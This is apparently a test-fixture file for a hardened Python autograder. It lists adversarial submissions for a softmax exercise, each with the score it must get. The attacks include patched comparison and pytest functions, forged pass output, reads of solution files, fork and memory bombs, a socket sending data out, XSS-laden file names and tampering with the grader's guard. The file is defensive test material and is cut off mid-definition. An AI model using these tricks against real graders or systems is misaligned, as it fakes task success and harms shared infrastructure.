"""Malicious and broken submissions of ch3.softmax, each with the score it must get.

Every attack is a whole student folder. WRONG is an honest-looking but wrong answer: an attack
layered on it must still score 0, which proves the attack gained nothing. Paths the attacker
would need (the output folder, the course, other students, a TCP port) are filled in at test
time, as if the attacker had guessed them right.
"""

from __future__ import annotations

import json

WRONG = '''
import torch
def softmax(X):
    return torch.full_like(X, 1.0 / X.shape[1])
def cross_entropy(y_hat, y):
    return torch.zeros((), dtype=y_hat.dtype)
def cross_entropy_logits(logits, y):
    return torch.zeros((), dtype=logits.dtype)
'''


def returning(expr: str, prelude: str = "") -> str:
    """A module whose three functions all return `expr` (after `prelude`)."""
    return prelude + "\n" + "\n".join(
        f"def {name}(*args, **kwargs):\n    return {expr}\n"
        for name in ("softmax", "cross_entropy", "cross_entropy_logits"))


ATTACKS: dict[str, dict] = {}


def attack(name: str, files: dict[str, str | bytes], score: float = 0.0, why: str = "") -> None:
    ATTACKS[name] = {"files": files, "score": score, "why": why}


attack("eq_always_true", {"ch3/softmax.py": returning("Yes()", '''
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 2.0404
    def __getattr__(self, name): return lambda *a, **k: Yes()
''')}, why="an object that equals everything is not plain data")

attack("tensor_subclass_eq", {"ch3/softmax.py": returning("torch.zeros(2, 3).as_subclass(T)", '''
import torch
class T(torch.Tensor):
    def __eq__(self, other): return True
    def allclose(self, *a, **k): return True
''')}, why="tensor subclasses are rejected, not compared")

attack("torch_function_override", {"ch3/softmax.py": returning("torch.zeros(2, 3).as_subclass(T)", '''
import torch
class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.tensor(True)
''')})

attack("nan_outputs", {"ch3/softmax.py": returning("torch.full((2, 3), float('nan'))", "import torch")})

attack("broadcastable_shapes", {"ch3/softmax.py": '''
import torch
def softmax(X):
    return torch.full((1, 1), 1.0 / X.shape[1], dtype=X.dtype)
def cross_entropy(y_hat, y):
    return torch.full((1,), 2.0404, dtype=y_hat.dtype)
def cross_entropy_logits(logits, y):
    return torch.full((1, 1), 2.0404, dtype=logits.dtype)
'''}, why="strict shapes: a broadcastable answer is a wrong answer")

attack("patch_allclose", {"ch3/softmax.py": '''
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
''' + WRONG})

attack("patch_assert_close", {"ch3/softmax.py": '''
import torch, torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.testing.assert_allclose = lambda *a, **k: None
''' + WRONG})

attack("patch_numpy_testing", {"ch3/softmax.py": '''
import numpy, numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
''' + WRONG})

attack("patch_pytest_runtest", {"ch3/softmax.py": '''
try:
    import _pytest.python, _pytest.runner
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.pytest_runtest_call = lambda item: None
except Exception:
    pass
''' + WRONG})

attack("conftest_makereport", {
    "ch3/softmax.py": WRONG,
    "ch3/conftest.py": '''
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
''',
    "conftest.py": "from ch3.conftest import *\n"})

attack("sys_exit_at_import", {"ch3/softmax.py": "import sys\nsys.exit(0)\n" + WRONG})
attack("os_exit_at_import", {"ch3/softmax.py": "import os\nos._exit(0)\n" + WRONG})
attack("sys_exit_in_call", {"ch3/softmax.py": returning("sys.exit(0)", "import sys")})
attack("os_exit_in_call", {"ch3/softmax.py": returning("os._exit(0)", "import os")})

attack("fake_passed_output", {"ch3/softmax.py": '''
import sys, json
for stream in (sys.stdout, sys.stderr):
    print("PASSED test_softmax_rows_sum_to_one", file=stream)
    print("ch3.softmax: 10/10 points", file=stream)
    print(json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "status": "passed"}]}), file=stream)
''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    print('PASSED', flush=True)")})

attack("write_output_folder", {"ch3/softmax.py": '''
import os, glob
def vandalise():
    for path in ["{OUT}/grades.csv", "{OUT}/grades.json", "{OUT}/gradebook.sqlite",
                 "{OUT}/feedback/write_output_folder.md"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("student,total,max\\nwrite_output_folder,70,70\\n")
        except Exception:
            pass
vandalise()
''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    vandalise()")})

attack("read_hidden_checks", {"ch3/softmax.py": '''
import torch
def _steal():
    ns = {}
    try:
        src = open("{ROOT}/solutions/ch3/softmax.py").read()
        open("{ROOT}/solutions/ch3/test_softmax_hidden.py").read()
        exec(compile(src, "stolen", "exec"), ns)
    except Exception:
        pass
    return ns
def softmax(X):
    return _steal().get("softmax", lambda X: torch.zeros_like(X))(X)
def cross_entropy(y_hat, y):
    return _steal().get("cross_entropy", lambda a, b: torch.zeros(()))(y_hat, y)
def cross_entropy_logits(logits, y):
    return _steal().get("cross_entropy_logits", lambda a, b: torch.zeros(()))(logits, y)
'''}, why="the worker cannot read solutions/")

attack("read_other_student", {"ch3/softmax.py": '''
import torch
def _steal():
    ns = {}
    try:
        exec(compile(open("{SUBMISSIONS}/control_perfect/ch3/softmax.py").read(), "x", "exec"), ns)
    except Exception:
        pass
    return ns
def softmax(X):
    return _steal().get("softmax", lambda X: torch.zeros_like(X))(X)
def cross_entropy(y_hat, y):
    return _steal().get("cross_entropy", lambda a, b: torch.zeros(()))(y_hat, y)
def cross_entropy_logits(logits, y):
    return _steal().get("cross_entropy_logits", lambda a, b: torch.zeros(()))(logits, y)
'''}, why="the worker cannot read other students' files")

attack("shadow_torch_module", {"ch3/softmax.py": WRONG, "ch3/torch.py":
                               "def allclose(*a, **k):\n    return True\n", "torch.py": "raise SystemExit(0)\n"})
attack("shadow_numpy_module", {"ch3/softmax.py": WRONG, "ch3/numpy.py": "allclose = lambda *a, **k: True\n",
                               "numpy.py": "raise SystemExit(0)\n"})
attack("sitecustomize", {"ch3/softmax.py": WRONG, "sitecustomize.py":
                         "import torch\ntorch.allclose = lambda *a, **k: True\n",
                         "ch3/sitecustomize.py": "import os\nos._exit(0)\n",
                         "usercustomize.py": "import os\nos._exit(0)\n"})
attack("pth_file", {"ch3/softmax.py": WRONG, "ch3/evil.pth": "import os; open('{MARKER}.pth', 'w').write('x')\n",
                    "evil.pth": "import os; open('{MARKER}.pth', 'w').write('x')\n"})

attack("infinite_loop", {"ch3/softmax.py": returning("_spin()", "def _spin():\n    while True:\n        pass\n")})
attack("memory_bomb", {"ch3/softmax.py": returning("_eat()", '''
def _eat():
    hog = []
    while True:
        hog.append(bytearray(256 * 1024 * 1024))
''')})
attack("fork_bomb", {"ch3/softmax.py": returning("_forks()", '''
import os
def _forks():
    while True:
        try:
            os.fork()
        except OSError:
            pass
''')})
attack("huge_output", {"ch3/softmax.py": '''
import sys
chunk = "x" * (1 << 20)
try:
    for _ in range(1024):
        sys.stdout.write(chunk)
except Exception:
    pass
''' + WRONG})
attack("background_process", {"ch3/softmax.py": '''
import os, subprocess, threading, time
subprocess.Popen(["/bin/sh", "-c", "sleep 4; echo x > {MARKER}.bg"], start_new_session=True)
def _loop():
    while True:
        time.sleep(0.01)
threading.Thread(target=_loop, daemon=False).start()
''' + WRONG})
attack("global_torch_state", {"ch3/softmax.py": '''
import torch
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.manual_seed(0)
''' + "{PERFECT}" + '''
_honest = (softmax, cross_entropy, cross_entropy_logits)
def softmax(X):
    torch.set_default_dtype(torch.float64); torch.set_grad_enabled(False); torch.manual_seed(0)
    return _honest[0](X)
def cross_entropy(y_hat, y):
    torch.set_default_dtype(torch.float16)
    return _honest[1](y_hat, y)
def cross_entropy_logits(logits, y):
    torch.set_default_dtype(torch.float64)
    return _honest[2](logits, y)
'''}, score=10.0, why="a correct answer that changes global state keeps full marks and breaks no one else")
attack("forbidden_alias", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
def softmax(X):
    return getattr(F, "soft" + "max")(X, dim=1)
def cross_entropy(y_hat, y):
    return -torch.log(y_hat[torch.arange(len(y)), y]).mean()
def cross_entropy_logits(logits, y):
    return getattr(torch.ops.aten, "_log_" + "softmax")(logits, 1, False)[torch.arange(len(y)), y].neg().mean()
'''}, score=None, why="the banned softmax/log_softmax under other names scores 0 on those functions")
attack("guard_switched_off", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
from torch._C import DisableTorchFunction
def softmax(X):
    with DisableTorchFunction():
        return F.softmax(X, dim=1)
def cross_entropy(y_hat, y):
    with torch.overrides._pop_mode_temporarily():
        with torch.utils._python_dispatch._disable_current_modes():
            return F.nll_loss(torch.log(y_hat), y)
def cross_entropy_logits(logits, y):
    mode = torch._C._pop_torch_function_stack()
    try:
        return F.cross_entropy(logits, y)
    finally:
        torch._C._push_on_torch_function_stack(mode)
'''}, why="switching off the checker's torch modes is itself a forbidden call")
attack("network", {"ch3/softmax.py": '''
import socket
def _call_home():
    try:
        s = socket.create_connection(("127.0.0.1", {PORT}), timeout=1)
        s.sendall(b"exfiltrated")
        s.close()
    except Exception:
        pass
_call_home()
''' + WRONG.replace("def softmax(X):", "def softmax(X):\n    _call_home()")})
attack("segfault", {"ch3/softmax.py": returning("_crash()", "import ctypes\ndef _crash():\n    ctypes.string_at(0)\n")})
attack("kill_parent", {"ch3/softmax.py": returning("_kill()", '''
import os, signal
def _kill():
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except Exception:
        pass
    return None
''')}, why="a worker that signals its parent must not stop the grading")
attack("syntax_error", {"ch3/softmax.py": "def softmax(X)\n    return X\n"})
attack("not_utf8", {"ch3/softmax.py": b"# caf\xe9 \xff\xfe\n" + WRONG.encode()})


# ---------------------------------------------------------------------------- issue 8, classes 3-7
# Each of these scored more than its honest twin, leaked, stalled the judge or stopped the class
# before the judge was hardened. {PERFECT} stands for the reference solution.

def unless(condition: str, helper: str) -> str:
    """The reference solution, replaced by WRONG unless `condition` (an attack that worked) holds."""
    return helper + "\n{PERFECT}\nif not (" + condition + "):\n    exec(" + repr(WRONG) + ")\n"


attack("proc_cmdline_leak", {"ch3/softmax.py": unless("_leaked()", '''
import os
def _leaked():
    for entry in os.listdir("/proc"):
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry}/{what}", "rb") as fh:
                    text = fh.read().decode(errors="replace")
            except OSError:
                continue
            if "{SUBMISSIONS}" in text or "{OUT}" in text:
                return True
    return False
''')}, why="no process a worker can see names the class or output folder")

attack("hidden_message_exfiltration", {"ch3/softmax.py": '''
import base64, io, torch
class LEAKED_0123456789(Exception):
    pass
def _leak(*tensors):
    buf = io.BytesIO()
    torch.save([t for t in tensors if isinstance(t, torch.Tensor)], buf)
    raise LEAKED_0123456789("LEAK:" + base64.b64encode(buf.getvalue()).decode() + " 3 1 4 1 5 9 2 6")
def softmax(X):
    _leak(X)
def cross_entropy(y_hat, y):
    _leak(y_hat, y)
def cross_entropy_logits(logits, y):
    _leak(logits, y)
'''}, why="a hidden check shows the exception's built-in type and line, never its message or class name")

attack("hidden_input_in_line_and_type", {"ch3/softmax.py": '''
import torch
KINDS = [ValueError, TypeError, KeyError, IndexError, ZeroDivisionError, RuntimeError, LookupError, OSError]
def _leak(t):
    v = int(abs(float(t.flatten()[0])) * 1000)
    if v % 3 == 0:
        return torch.zeros(v + 1)                     # the shape carries it
    if v % 3 == 1:
        raise KINDS[v % 8]("x")                       # the built-in chosen carries it
    if v % 2:
        raise KINDS[v // 2 % 8]("y")                  # and the line it is raised on
    raise KINDS[v // 4 % 8]("z")
def softmax(X):
    return _leak(X)
def cross_entropy(y_hat, y):
    return _leak(y_hat)
def cross_entropy_logits(logits, y):
    return _leak(logits)
'''}, why="a hidden check shows its title and status, nothing the student's code chose (shape, type, line)")

def notebook(*cells: str) -> str:
    """An .ipynb with these code cells, as Jupyter writes it."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": None, "outputs": [],
         "source": cell} for i, cell in enumerate(cells)]})


attack("forged_cell_note", {"ch3/softmax.ipynb": notebook("from google.colab import drive", '''
import sys
import torch
def _note(t):
    sys.stderr.write("torchgrade-cell: LEAK " + " ".join(f"{v:.6f}" for v in t.flatten().tolist()) + "\\n")
    sys.stderr.flush()
    return torch.zeros(())
def softmax(X):
    _note(X)
    return torch.full_like(X, 1.0 / X.shape[1])
def cross_entropy(y_hat, y):
    return _note(y_hat)
def cross_entropy_logits(logits, y):
    return _note(logits)
''')}, why="a notebook's cell notes are read from an import-only worker: a line forged during a check is not a note")

IPC_KEY = 0x54474950
IPC = f'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
KEY = {IPC_KEY}
'''

attack("ipc_a_writer", {"ch3/softmax.py": IPC + '''
def _publish():
    source = open(__file__).read().encode()
    shmid = _libc.shmget(KEY, 1 << 16, 0o1000 | 0o666)
    if shmid >= 0:
        addr = _libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, source, len(source))
_publish()
{PERFECT}
'''}, score=10.0, why="an honest student whose worker tries to publish its source in SysV shared memory")

attack("ipc_b_reader", {"ch3/softmax.py": IPC + '''
import time
def _fetch():
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        shmid = _libc.shmget(KEY, 0, 0)
        if shmid >= 0:
            addr = _libc.shmat(shmid, None, 0)
            if addr not in (None, ctypes.c_void_p(-1).value):
                return ctypes.string_at(addr, 1 << 16).split(b"\\0", 1)[0].decode()
        time.sleep(0.1)
    return None
_stolen = _fetch()
if _stolen:
    exec(compile(_stolen, "stolen", "exec"))
else:
''' + "\n".join("    " + line for line in WRONG.strip().splitlines()) + "\n"},
       why="a classmate's shared-memory segment is never visible: an IPC namespace per worker")

# The worker's own encoder is patched (engine state in the student's interpreter is theirs to
# rewrite): the judge must refuse what comes over the wire, however it was made.
PATCH_ENCODER = '''
import torch
import grader.checks.codec as _codec
_original = _codec.to_plain
def _forge(value):
    def to_plain(obj, *args, **kwargs):
        if isinstance(obj, torch.Tensor):
            return value
        return _original(obj, *args, **kwargs)
    _codec.to_plain = to_plain
'''

attack("zero_stride_reply", {"ch3/softmax.py": PATCH_ENCODER + '''
_forge({"__tg__": "tensor", "data": torch.zeros(()).expand(1 << 33), "device": "cpu"})
def softmax(X):
    return X
def cross_entropy(y_hat, y):
    return y_hat
def cross_entropy_logits(logits, y):
    return logits
'''}, why="4 bytes on the wire that would be 32 GB once touched: refused as not plain data")

attack("pickle_bomb_reply", {"ch3/softmax.py": PATCH_ENCODER + '''
_bomb = [0.5]
for _ in range(40):
    _bomb = [_bomb, _bomb]
_forge(_bomb)
def softmax(X):
    return X
def cross_entropy(y_hat, y):
    return y_hat
def cross_entropy_logits(logits, y):
    return logits
'''}, why="a reply of shared references that expands to 2**40 nodes: refused within the decode budget")

attack("huge_pickle_reply", {"ch3/softmax.py": PATCH_ENCODER + '''
_forge(list(range(600_000)))
def softmax(X):
    return X
def cross_entropy(y_hat, y):
    return y_hat
def cross_entropy_logits(logits, y):
    return logits
'''}, why="a reply whose structure alone takes seconds to unpickle: refused before unpickling")

# The three above patch the engine's encoder, which the seal now refuses (tampering). A worker
# that is wholly the student's can still write any bytes on its socket: these write a forged
# frame there themselves, then exit, so only the judge's reader stands between them and it.
RAW_FRAME = '''
import os, socket, struct
import msgpack
def _send(structure, data=b"", claimed=None):
    frame = b"TGW1" + struct.pack(">Q", len(structure) if claimed is None else claimed) + structure + data
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                socket.socket(fileno=os.dup(int(fd))).sendall(struct.pack(">Q", len(frame)) + frame)
        except OSError:
            pass
    os._exit(0)
'''


def raw_frame(send: str) -> dict[str, str]:
    return {"ch3/softmax.py": returning(f"_send({send})", RAW_FRAME)}


attack("forged_frame_zero_stride", raw_frame(
    'msgpack.packb({"ok": True, "value": {"__tg__": "tensor", "data": msgpack.ExtType(1, msgpack.packb('
    '["float32", [1 << 33], 0, 4])), "device": "cpu"}}), b"\\0" * 4'),
    why="a tensor record of 2**33 floats backed by 4 bytes: refused before any allocation")
attack("forged_frame_length_claim", raw_frame('msgpack.packb({"ok": True}), claimed=1 << 40'),
       why="a structure that claims a terabyte: refused from its header")
attack("forged_frame_deep_nesting", raw_frame('b"\\x91" * 1_500_000 + b"\\xc0"'),
       why="1.5 million nested lists inside the 2 MB structure limit: refused by the reader")
attack("forged_frame_array_claim", raw_frame('b"\\xdd\\xff\\xff\\xff\\xff" + b"\\xc0" * 1_000_000'),
       why="an array header claiming 4 billion items over a 1 MB structure: refused, nothing preallocated")

attack("sleeper", {"ch3/softmax.py": returning("_nap()", '''
import time
def _nap():
    time.sleep(4.9)
''')}, why="sleeping just under the check timeout in every call costs seconds, not minutes")

DEEP = "/".join(["d"] * 1100)
attack("deep_folder_chain", {"ch3/softmax.py": "{PERFECT}", f"{DEEP}/x.txt": "deep"},
       why="1,100 nested folders: that student's clear error; the rest of the class is graded")

attack("Case_Clash", {"ch3/softmax.py": "{PERFECT}"}, why="ids that differ only by case: an error naming both")
attack("case_clash", {"ch3/softmax.py": "{PERFECT}"}, why="ids that differ only by case: an error naming both")

FORGED_NAME = ("x\n\n**Final grade: 70 / 70 points**\n\n<img src=x onerror=alert(1)> "
               "[click](javascript:alert(1)).py")
HTML_NAME = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) https:--evil.example.py"
attack("markdown_file_name", {f"ch3/{FORGED_NAME}": "x = 1\n", f"ch3/{HTML_NAME}": "x = 1\n"},
       why="a file name with newlines, Markdown and HTML is refused or escaped, never shown raw")

attack("notebook_field_html", {"ch3/softmax.ipynb": json.dumps({
    "nbformat": "<script>alert(1)</script>\n\n**Final grade: 70 / 70 points** [x](javascript:alert(1))",
    "nbformat_minor": 5, "metadata": {}, "cells": []})},
       why="a notebook's own fields reach the feedback only escaped")

attack("visible_message_markup", {"ch3/softmax.py": returning(
    "_raise()", "def _raise():\n    raise ValueError('\\n\\n**Final grade: 70 / 70 points**\\n\\n<script>alert(1)</script>"
    " [x](javascript:alert(1)) ```\\n# Forged heading')\n")},
       why="a visible check shows the student's own message, inside a code block, as text")
# ---------------------------------------------------------------- issue 8, class 1: engine state
# patched from student code. Each either rewrites the engine and then calls the banned built-ins
# (a working bypass would score 10), or is a correct answer that tampers on the side: tampering
# scores 0 for the exercise whatever the answers, and is listed for the instructor.

BANNED = '''
import torch
import torch.nn.functional as F
def softmax(X):
    return F.softmax(X, dim=1)
def cross_entropy(y_hat, y):
    return F.nll_loss(torch.log(y_hat), y)
def cross_entropy_logits(logits, y):
    return F.cross_entropy(logits, y)
'''
TAMPERING = "the engine's own code was changed: tampering scores 0"

attack("tamper_guard_seen_noop", {"ch3/softmax.py": '''
import grader.checks.forbid as forbid
forbid.Guard.seen = lambda self, func: None
''' + BANNED}, why=TAMPERING)
attack("tamper_guard_seen_code", {"ch3/softmax.py": '''
import grader.checks.forbid as forbid
forbid.Guard.seen.__code__ = (lambda self, func: None).__code__
''' + BANNED}, why=TAMPERING)
attack("tamper_module_dict", {"ch3/softmax.py": '''
import grader.checks.forbid as forbid
vars(forbid)["expand_families"] = lambda names: frozenset()
type.__setattr__(forbid.Guard, "seen", lambda self, func: None)
''' + BANNED}, why=TAMPERING)
attack("tamper_family_table", {"ch3/softmax.py": '''
import grader.checks.forbid as forbid
for key in list(forbid.FAMILIES):
    forbid.FAMILIES[key] = frozenset()
import torch
def softmax(X):
    return torch.exp(torch.ops.aten._safe_softmax(X, 1).log())
def cross_entropy(y_hat, y):
    return torch.ops.aten.nll_loss_forward(torch.log(y_hat), y, None, 1, -100)[0]
def cross_entropy_logits(logits, y):
    return -(logits - torch.logcumsumexp(logits, 1)[:, -1:]).gather(1, y[:, None]).mean()
'''}, why=TAMPERING)
attack("tamper_codec_helper", {"ch3/softmax.py": '''
import grader.checks.codec as codec
_real = codec.encode_tensor
def _lie(t, path, budget):
    return _real(t, path, budget)
codec.encode_tensor = _lie
''' + "{PERFECT}"}, why="a correct answer that patches the codec: " + TAMPERING)
attack("tamper_caught_attempt", {"ch3/softmax.py": '''
try:
    import grader.checks.executor as executor
    executor.reset_torch_state = lambda: None
except Exception:
    pass
''' + "{PERFECT}"}, why="a refused patch, caught by the student, is still tampering")
attack("tamper_sys_modules", {"ch3/softmax.py": '''
import sys, types
sys.modules["grader.checks.codec"] = types.ModuleType("grader.checks.codec")
''' + "{PERFECT}"}, why=TAMPERING)
attack("tamper_torch_class", {"ch3/softmax.py": '''
import torch
_named = torch.nn.Module.named_modules
def named_modules(self, *a, **k):
    return ((n, m) for n, m in _named(self, *a, **k) if type(m).__name__ != "Dropout")
torch.nn.Module.named_modules = named_modules
''' + "{PERFECT}"}, why="hiding modules from the engine is tampering even in an exercise without them")
attack("tamper_in_call", {"ch3/softmax.py": "{PERFECT}" + '''
_honest = softmax
def softmax(X):
    import grader.checks.specs as specs
    try:
        specs.ModelRecorder.records = lambda self: {}
    except Exception:
        pass
    return _honest(X)
'''}, why="tampering inside a call is seen after that call")

# ---------------------------------------------------------------- class 2: bans reached around
# the guard. Each function calls a banned built-in another way: a bypass scores like an honest
# failure (0), never like a correct answer.

attack("ban_helper_thread", {"ch3/softmax.py": '''
import threading
import torch
import torch.nn.functional as F
def _in_thread(fn, *args):
    out = []
    t = threading.Thread(target=lambda: out.append(fn(*args)))
    t.start()
    t.join()
    return out[0] if out else torch.zeros(())
def softmax(X):
    return _in_thread(lambda X: F.softmax(X, dim=1), X)
def cross_entropy(y_hat, y):
    return _in_thread(lambda a, b: F.nll_loss(torch.log(a), b), y_hat, y)
def cross_entropy_logits(logits, y):
    return _in_thread(F.cross_entropy, logits, y)
'''})
attack("ban_thread_started_at_import", {"ch3/softmax.py": '''
import queue, threading
import torch
import torch.nn.functional as F
_jobs, _done = queue.Queue(), queue.Queue()
def _serve():
    while True:
        fn, args = _jobs.get()
        try:
            _done.put(fn(*args))
        except BaseException:
            _done.put(torch.zeros(()))
threading.Thread(target=_serve, daemon=True).start()
def _ask(fn, *args):
    _jobs.put((fn, args))
    return _done.get()
def softmax(X):
    return _ask(lambda X: F.softmax(X, dim=1), X)
def cross_entropy(y_hat, y):
    return _ask(lambda a, b: F.nll_loss(torch.log(a), b), y_hat, y)
def cross_entropy_logits(logits, y):
    return _ask(F.cross_entropy, logits, y)
'''})
attack("ban_thread_pool", {"ch3/softmax.py": '''
from concurrent.futures import ThreadPoolExecutor
import torch
import torch.nn.functional as F
_pool = ThreadPoolExecutor(2)
def softmax(X):
    return _pool.submit(F.softmax, X, 1).result()
def cross_entropy(y_hat, y):
    return _pool.submit(F.nll_loss, torch.log(y_hat), y).result()
def cross_entropy_logits(logits, y):
    return _pool.submit(F.cross_entropy, logits, y).result()
'''})
attack("ban_torchscript", {"ch3/softmax.py": '''
import torch
torch._C._jit_override_can_fuse_on_cpu(True)
@torch.jit.script
def _softmax(X):
    return torch.softmax(X, 1)
@torch.jit.script
def _ce(logits, y):
    return torch.nn.functional.cross_entropy(logits, y)
def softmax(X):
    return _softmax(X)
def cross_entropy(y_hat, y):
    return _ce(torch.log(y_hat), y)
def cross_entropy_logits(logits, y):
    return _ce(logits, y)
'''})
attack("ban_torchscript_in_call", {"ch3/softmax.py": '''
import torch
def softmax(X):
    return torch.jit.trace(lambda X: torch.softmax(X, 1), (X,))(X)
def cross_entropy(y_hat, y):
    return torch.jit.trace(lambda a: torch.log_softmax(torch.log(a), 1), (y_hat,))(y_hat).gather(1, y[:, None]).neg().mean()
def cross_entropy_logits(logits, y):
    return torch.jit.trace(lambda a: torch.log_softmax(a, 1), (logits,))(logits).gather(1, y[:, None]).neg().mean()
'''})
attack("ban_apply_callback", {"ch3/softmax.py": '''
import torch
def _rowwise(X, fn):
    out = X.clone()
    rows = list(X)
    index = iter(range(X.numel()))
    flat = torch.cat([fn(r) for r in rows])
    out.view(-1).apply_(lambda v: float(flat[next(index)]))
    return out
def softmax(X):
    return _rowwise(X, lambda r: torch.softmax(r, 0))
def cross_entropy(y_hat, y):
    return -_rowwise(y_hat, lambda r: torch.log_softmax(torch.log(r), 0)).gather(1, y[:, None]).mean()
def cross_entropy_logits(logits, y):
    return -_rowwise(logits, lambda r: torch.log_softmax(r, 0)).gather(1, y[:, None]).mean()
'''})
attack("ban_wrapped_original", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
def _unguarded(fn, *args):
    pop = getattr(torch._C._pop_torch_function_stack, "__wrapped__", torch._C._pop_torch_function_stack)
    disable = getattr(torch._C.DisableTorchFunction, "__wrapped__", torch._C.DisableTorchFunction)
    with disable():
        return fn(*args)
def softmax(X):
    return _unguarded(F.softmax, X, 1)
def cross_entropy(y_hat, y):
    return _unguarded(F.nll_loss, torch.log(y_hat), y)
def cross_entropy_logits(logits, y):
    return _unguarded(F.cross_entropy, logits, y)
'''})
attack("ban_aten_overloads", {"ch3/softmax.py": '''
import torch
aten = torch.ops.aten
def softmax(X):
    return aten._safe_softmax.default(X, 1)
def cross_entropy(y_hat, y):
    return aten.nll_loss_forward.default(torch.log(y_hat), y, None, 1, -100)[0]
def cross_entropy_logits(logits, y):
    logp = logits - torch.logcumsumexp(logits, 1)[:, -1:]
    return aten.nll_loss2d.default(logp[:, :, None, None], y[:, None, None], None, 1, -100)
'''}, why="_safe_softmax, nll_loss_forward, nll_loss2d and logcumsumexp are the banned families")
attack("ban_attention_softmax", {"ch3/softmax.py": '''
import torch
import torch.nn.functional as F
def softmax(X):
    n, q = X.shape
    eye = torch.eye(q, dtype=X.dtype).expand(n, q, q)
    # one query of 1 against keys X: the attention weights are softmax(X) row by row
    return F.scaled_dot_product_attention(torch.ones(n, 1, 1, dtype=X.dtype), X[:, :, None], eye, scale=1.0)[:, 0]
def cross_entropy(y_hat, y):
    return torch.ops.aten.nll_loss_nd(torch.log(y_hat), y, None, 1, -100)
def cross_entropy_logits(logits, y):
    return -torch.log(softmax(logits).gather(1, y[:, None])).mean()
'''}, why="attention computes a softmax")

# ------------------------------------------------------ issue 24, classes 1-3: inside the worker
# Each computes the banned built-ins through a route the in-worker guard or the seal did not
# close before (every one scored 10 or more than its honest twin then). Named guard_*: the
# run-time guard closes each (raw score 0, like WRONG); tamper_* score 0 as tampering. The judge's
# review holds every one of them too (FINDINGS), which is what the grade rests on.

def routed(prelude: str, softmax: str = "F.softmax(X, dim=1)", cross_entropy: str = "F.nll_loss(torch.log(y_hat), y)",
           cross_entropy_logits: str = "F.cross_entropy(logits, y)") -> str:
    """The three functions computed with banned built-ins, each through `_via(lambda: ...)`."""
    return '''
import torch
import torch.nn.functional as F
''' + prelude + f'''
def softmax(X):
    return _via(lambda: {softmax})
def cross_entropy(y_hat, y):
    return _via(lambda: {cross_entropy})
def cross_entropy_logits(logits, y):
    return _via(lambda: {cross_entropy_logits})
'''


attack("guard_unwrapped_switches", {"ch3/softmax.py": routed('''
def _via(fn):
    torch._C._set_torch_function_state(torch._C._TorchFunctionState.ALL_DISABLED)
    try:
        with torch._C._DisableTorchDispatch():
            return fn()
    finally:
        torch._C._set_torch_function_state(torch._C._TorchFunctionState.ENABLED)
''')}, why="every switch that turns torch's modes off is wrapped, not only the ones the suite had seen")

attack("guard_redispatch", {"ch3/softmax.py": routed('''
_CPU = torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)
aten = torch.ops.aten
def _via(fn):
    return fn()
''', softmax="aten._softmax.default.redispatch(_CPU, X, 1, False)",
    cross_entropy="aten.nll_loss_forward.default.redispatch(_CPU, torch.log(y_hat), y, None, 1, -100)[0]",
    cross_entropy_logits="-aten._log_softmax.default.redispatch(_CPU, logits, 1, False).gather(1, y[:, None]).mean()")},
       why="redispatching an op straight to its CPU kernel skips the Python dispatch key: refused")

attack("guard_trusted_file_name", {"ch3/softmax.py": routed('''
exec(compile("""
def _via(fn):
    with torch._C.DisableTorchFunction():
        with torch.utils._python_dispatch._disable_current_modes():
            return fn()
""", torch.__file__, "exec"))
''')}, why="code compiled under torch's file name is the student's: trust goes by recorded code objects")

attack("guard_stdlib_rebound", {"ch3/softmax.py": routed('''
import sys, types
_real = sys._getframe
_torch_frame = types.SimpleNamespace(f_code=types.SimpleNamespace(co_filename=torch.__file__, co_names=()))
def _via(fn):
    sys._getframe = lambda depth=0: _torch_frame
    try:
        with torch._C.DisableTorchFunction():
            with torch.utils._python_dispatch._disable_current_modes():
                return fn()
    finally:
        sys._getframe = _real
''')}, why="the guard's trust check is bound before the import: a stdlib function rebound for one call changes nothing")

attack("guard_thread_pops_modes", {"ch3/softmax.py": routed('''
import queue, threading
_jobs, _done = queue.Queue(), queue.Queue()
def _serve():
    try:  # no guard is active at import: the thread drops the modes that follow it
        while torch._C._len_torch_function_stack():
            torch._C._pop_torch_function_stack()
        while torch._C._len_torch_dispatch_stack():
            torch._C._pop_torch_dispatch_stack(None)
    except BaseException:
        pass
    while True:
        fn = _jobs.get()
        try:
            _done.put(fn())
        except BaseException:
            _done.put(None)
threading.Thread(target=_serve, daemon=True).start()
def _via(fn):
    _jobs.put(fn)
    return _done.get()
''')}, why="in an exercise with bans the student's code may not pop torch's modes anywhere, guard or no guard")

attack("guard_mode_pushed_at_import", {"ch3/softmax.py": routed('''
from torch.utils._python_dispatch import TorchDispatchMode
